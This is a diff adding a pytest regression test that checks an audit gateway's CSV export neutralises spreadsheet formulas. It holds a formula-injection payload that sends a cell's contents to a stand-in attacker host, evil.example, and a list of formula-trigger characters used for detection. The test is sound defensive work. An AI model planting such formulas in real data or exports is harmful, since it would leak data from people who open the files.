@@ -49,3 +49,39 @@ def test_admin_cannot_change_their_own_account(
     assert me["clearance"] == "L1"
     refused = gw.query("root", DIBAO, {"purpose": "supervision", "case_ref": "JW-RT-1"})
     assert refused.status_code == 403, refused.text
+
+
+FORMULA = "=HYPERLINK(\"evil.example?\"&A1,\"open\")"
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def test_audit_csv_export_cells_do_not_act(deployment: DemoGateway) -> None:
+    """The actor column of the audit CSV is a subject chosen by whoever names users (an
+    admin, an identity provider): a spreadsheet formula there runs when a security
+    officer opens the export. Display cells are neutralised (the verified record column
+    keeps the event exactly), and the export still verifies offline."""
+    import csv
+    import io
+    import json
+    from urllib.parse import quote
+
+    from audit.export import verify_export
+
+    gw = deployment
+    body = {"display_name": "x", "clearance": "L1", "jurisdiction": []}
+    created = gw.client.put(f"{USERS}/{quote(FORMULA, safe='')}", headers=gw.headers("root"),
+                            json=body)  # fmt: skip
+    assert created.status_code == 200, created.text
+    denied = gw.query(FORMULA, DIBAO, {"purpose": "supervision", "case_ref": "JW-RT-2"})
+    assert denied.status_code == 403, denied.text
+    export = gw.client.get("/api/v1/audit/export", params={"format": "csv"},
+                           headers=gw.headers("sam"))  # fmt: skip
+    assert export.status_code == 200, export.text
+    rows = list(csv.reader(io.StringIO(export.content.decode(), newline="")))
+    actors = [json.loads(row[-1]).get("actor", {}).get("sub") for row in rows[1:]]
+    assert FORMULA in actors, "the event is not in the export"
+    acting = [cell for row in rows for cell in row[:-1] if cell.startswith(FORMULA_START)]
+    assert acting == []
+    kids = {k["kid"] for k in gw.client.get("/api/v1/audit/keys").json()["keys"]}
+    outcome = verify_export(export.content, trusted_kids=kids)
+    assert outcome.ok, outcome
